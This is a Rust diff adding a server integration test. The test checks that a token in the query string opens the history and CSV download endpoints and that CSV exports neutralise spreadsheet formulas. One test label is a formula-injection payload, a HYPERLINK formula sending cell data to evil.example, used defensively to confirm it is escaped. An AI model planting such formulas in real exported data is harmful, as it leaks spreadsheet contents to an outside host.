@@ -7,7 +7,9 @@ use std::time::Duration;
 
 use futures_util::{SinkExt, StreamExt};
 use server::cli::client::{ApiClient, Method};
-use server::testkit::{TestServer, call, connections, eventually, fast_config, next_metrics};
+use server::testkit::{
+    Reply, Scratch, TestServer, call, connections, eventually, fast_config, next_metrics, raw_http,
+};
 use server::{Auth, Config, ServeError};
 use shared::{ErrorCode, ServerMsg};
 use tokio_tungstenite::connect_async;
@@ -352,6 +354,102 @@ async fn perfmon_run_authenticates_with_its_token() {
     .await
     .expect("run");
     assert_eq!(run["status"], "stopped", "registered, then ended when the command exited");
+    server.stop().await;
+}
+
+/// A server like `config` that keeps its history in `data`, a directory of the
+/// test's own.
+async fn with_store(config: Config, data: &Scratch) -> TestServer {
+    let store = server::store::StoreConfig { dir: data.0.clone(), retention: Default::default() };
+    TestServer::start(Config { store: Some(store), ..config }).await
+}
+
+/// A process to register as a run; killed and reaped on drop.
+struct Sleeper(std::process::Child);
+
+impl Sleeper {
+    fn start() -> Sleeper {
+        Sleeper(std::process::Command::new("sleep").arg("120").spawn().expect("spawn sleep"))
+    }
+}
+
+impl Drop for Sleeper {
+    fn drop(&mut self) {
+        let _ = self.0.kill();
+        let _ = self.0.wait();
+    }
+}
+
+/// `GET path` as a browser sends it: this server's own Host, no other credential.
+async fn browser_get(server: &TestServer, path: &str) -> Reply {
+    let host = format!("127.0.0.1:{}", server.addr.port());
+    raw_http(server.addr, "GET", path, &[("host", host.as_str())], None).await
+}
+
+/// Waits until the store lists `run_id` among `project`'s runs; its record.
+async fn stored_run(api: &ApiClient, project: &str, run_id: &str) -> serde_json::Value {
+    let path = format!("/api/projects/{project}/runs");
+    eventually(Duration::from_secs(20), "the run is stored", || async {
+        let page = call(api, Method::GET, &path, None).await.ok()?;
+        page["runs"].as_array()?.iter().find(|r| r["run_id"] == run_id).cloned()
+    })
+    .await
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn a_token_in_the_query_opens_history_and_every_csv_download() {
+    let data = Scratch::new("security-token-csv");
+    let server = with_store(with_token(), &data).await;
+    let bearer = ApiClient::new(server.addr).with_token(Some(TOKEN.into()));
+    let sleeper = Sleeper::start();
+    let label = r#"=HYPERLINK("http://evil.example/?d="&A1,"open me")"#;
+    let body = serde_json::json!({ "pid": sleeper.0.id(), "label": label });
+    let run = call(&bearer, Method::POST, "/api/projects/csv/run", Some(body)).await.expect("registered");
+    let run_id = run["run_id"].as_str().expect("a run id").to_owned();
+    call(&bearer, Method::DELETE, "/api/projects/csv/run", None).await.expect("ended");
+    assert_eq!(stored_run(&bearer, "csv", &run_id).await["label"], label, "JSON keeps the label as given");
+
+    let now = chrono::Utc::now();
+    let span = |t: chrono::DateTime<chrono::Utc>| t.to_rfc3339_opts(chrono::SecondsFormat::Secs, true);
+    let history =
+        format!("/api/history?from={}&to={}&step=1", span(now - chrono::Duration::minutes(5)), span(now));
+    let report = format!("/api/projects/csv/runs/{}?format=csv", run_id.replace(':', "%3A"));
+    for (path, csv) in [
+        (history.clone(), false),
+        (format!("{history}&format=csv"), true),
+        ("/api/projects/csv/runs".to_owned(), false),
+        ("/api/projects/csv/runs?format=csv".to_owned(), true),
+        // The report page's Download CSV link.
+        (report.clone(), true),
+    ] {
+        let sep = if path.contains('?') { '&' } else { '?' };
+        let reply = browser_get(&server, &format!("{path}{sep}token={TOKEN}")).await;
+        assert_eq!(reply.status, 200, "{path} with ?token=: {}", reply.text());
+        let kind = reply.header("content-type").unwrap_or_default();
+        assert_eq!(kind.starts_with("text/csv"), csv, "{path}: {kind}");
+        let wrong = browser_get(&server, &format!("{path}{sep}token=wrong")).await;
+        assert_eq!(wrong.status, 401, "{path} with a wrong token: {}", wrong.text());
+        let none = browser_get(&server, &path).await;
+        assert_eq!(none.status, 401, "{path} without a token: {}", none.text());
+    }
+    // A typo is still refused by name, token or not.
+    let typo = browser_get(&server, &format!("/api/history?stpe=60&token={TOKEN}")).await;
+    assert_eq!(typo.status, 400, "{}", typo.text());
+    let error: shared::api::ApiError = serde_json::from_str(&typo.text()).expect("the one error shape");
+    assert_eq!((error.code.as_str(), error.field.as_deref()), ("unknown_parameter", Some("stpe")));
+
+    // The label reaches a spreadsheet as text, not as a formula.
+    let reply = browser_get(&server, &format!("/api/projects/csv/runs?format=csv&token={TOKEN}")).await;
+    let mut reader = csv::Reader::from_reader(&reply.bytes[..]);
+    let header = reader.headers().expect("a header").clone();
+    let column = |name: &str| header.iter().position(|h| h == name).expect(name);
+    let row = reader
+        .records()
+        .map(|r| r.expect("a CSV row"))
+        .find(|r| r.get(column("run_id")) == Some(run_id.as_str()))
+        .expect("the run's row");
+    assert_eq!(row.get(column("label")), Some(format!("'{label}").as_str()));
+    assert_eq!(row.get(column("pid")), Some(sleeper.0.id().to_string().as_str()), "numbers stay as they are");
     server.stop().await;
 }
 
